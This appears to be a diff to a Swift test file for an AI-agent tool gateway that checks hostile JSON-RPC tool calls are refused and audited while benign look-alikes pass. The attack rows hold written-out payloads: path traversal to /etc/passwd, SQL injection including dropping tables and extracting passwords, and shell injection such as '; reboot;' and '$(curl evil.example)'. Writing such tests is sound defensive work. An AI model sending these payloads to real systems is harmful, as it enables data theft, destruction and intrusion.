@@ -109,6 +109,62 @@ struct ProxyAttackTableTests {
             #"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"read_file","arguments":{"path":"..\u2215..\u2215etc/passwd"}}}"#,
             [], "acme/agents/bot1"
         ),
+        (
+            "JSON inside a string hiding \\u002e-escaped dots",
+            #"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"read_file","arguments":{"files":"[{\"path\":\"\\u002e\\u002e/\\u002e\\u002e/etc/passwd\"}]"}}}"#,
+            [], "acme/agents/bot1"
+        ),
+        (
+            "a NUL glued to an accent",
+            #"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"read_file","arguments":{"path":"notes\u0000\u0301.txt"}}}"#,
+            [],
+            "acme/agents/bot1"
+        ),
+        (
+            "an overlong UTF-8 slash",
+            #"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"read_file","arguments":{"path":"..%c0%af..%c0%afetc/passwd"}}}"#,
+            [], "acme/agents/bot1"
+        ),
+        (
+            "stacked SQL with comments as whitespace",
+            #"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"exec_sql","arguments":{"query":"select 1;drop/**/table users"}}}"#,
+            [], "globex/agents/bot1"
+        ),
+        (
+            "an SQL tautology",
+            #"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"exec_sql","arguments":{"query":"select * from users where name = 'x' or '1'='1'"}}}"#,
+            [], "globex/agents/bot1"
+        ),
+        (
+            "UNION SELECT behind a comment",
+            #"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"exec_sql","arguments":{"query":"select a from t where id = 1 union/**/distinct select(password) from users"}}}"#,
+            [], "globex/agents/bot1"
+        ),
+        (
+            "a time-based SQL call",
+            #"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"exec_sql","arguments":{"query":"select a from t where id = 1 and sleep/**/(5)"}}}"#,
+            [], "globex/agents/bot1"
+        ),
+        (
+            "a resource URI leaving its base through dot segments",
+            #"{"jsonrpc":"2.0","id":1,"method":"resources/read","params":{"uri":"file:///workspace/../../etc/passwd"}}"#, [],
+            "acme/agents/bot1"
+        ),
+        (
+            "a resource URI leaving its base through encoded dot segments",
+            #"{"jsonrpc":"2.0","id":1,"method":"resources/read","params":{"uri":"file:///workspace/%252e%252e/%2e%2e/etc/passwd"}}"#, [],
+            "acme/agents/bot1"
+        ),
+        (
+            "a shell separator closing a single-quoted splice",
+            #"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"convert_document","arguments":{"filename":"x.pdf'; reboot; '"}}}"#,
+            [], "globex/agents/bot1"
+        ),
+        (
+            "shell command substitution",
+            #"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"convert_document","arguments":{"filename":"$(curl evil.example)"}}}"#,
+            [], "globex/agents/bot1"
+        ),
     ]
 
     @Test("every attack is refused, audited, and not forwarded", arguments: 0..<attacks.count)
@@ -148,6 +204,37 @@ struct ProxyAttackTableTests {
         #expect(response.status == 200)
         #expect(upstream.received.map(\.body) == [batch])
         #expect(try gateway.auditRecords().count == 2)
+        try await gateway.stop()
+        await upstream.stop()
+    }
+
+    @Test(
+        "the benign look-alike of each attack class reaches the upstream (the rows above are refused for what they carry)",
+        arguments: [
+            ("globex/agents/bot1", "exec_sql", #"{"query":"select id from tickets where owner = 'O''Brien' -- newest"}"#),
+            ("globex/agents/bot1", "convert_document", #"{"filename":"Q3 report (final) $5.pdf"}"#),
+            ("acme/agents/bot1", "read_file", #"{"path":"notes..txt","files":"[{\"path\":\"docs/a.txt\"}]"}"#),
+            ("acme/agents/bot1", "read_file", #"{"path":"caf\u0065\u0301/menu.txt"}"#),
+        ])
+    func benignLookAlikes(agent: String, tool: String, arguments: String) async throws {
+        let upstream = try await RecordingUpstream.start(.json)
+        let gateway = try await GatewayFixture.start(upstream: upstream.url)
+        let body = #"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"\#(tool)","arguments":\#(arguments)}}"#
+        let response = try await gateway.client(agent).send(body: body)
+        #expect(response.status == 200, "\(arguments): \(response.status) \(response.body)")
+        #expect(upstream.received.map(\.body) == [body], "\(arguments) did not reach the upstream")
+        try await gateway.stop()
+        await upstream.stop()
+    }
+
+    @Test("a resource URI whose dot segments stay inside the pattern's base reaches the upstream")
+    func benignResource() async throws {
+        let upstream = try await RecordingUpstream.start(.json)
+        let gateway = try await GatewayFixture.start(upstream: upstream.url)
+        let body = #"{"jsonrpc":"2.0","id":1,"method":"resources/read","params":{"uri":"file:///workspace/a/../b.txt"}}"#
+        let response = try await gateway.client().send(body: body)
+        #expect(response.status == 200, "\(response.status) \(response.body)")
+        #expect(upstream.received.map(\.body) == [body])
         try await gateway.stop()
         await upstream.stop()
     }
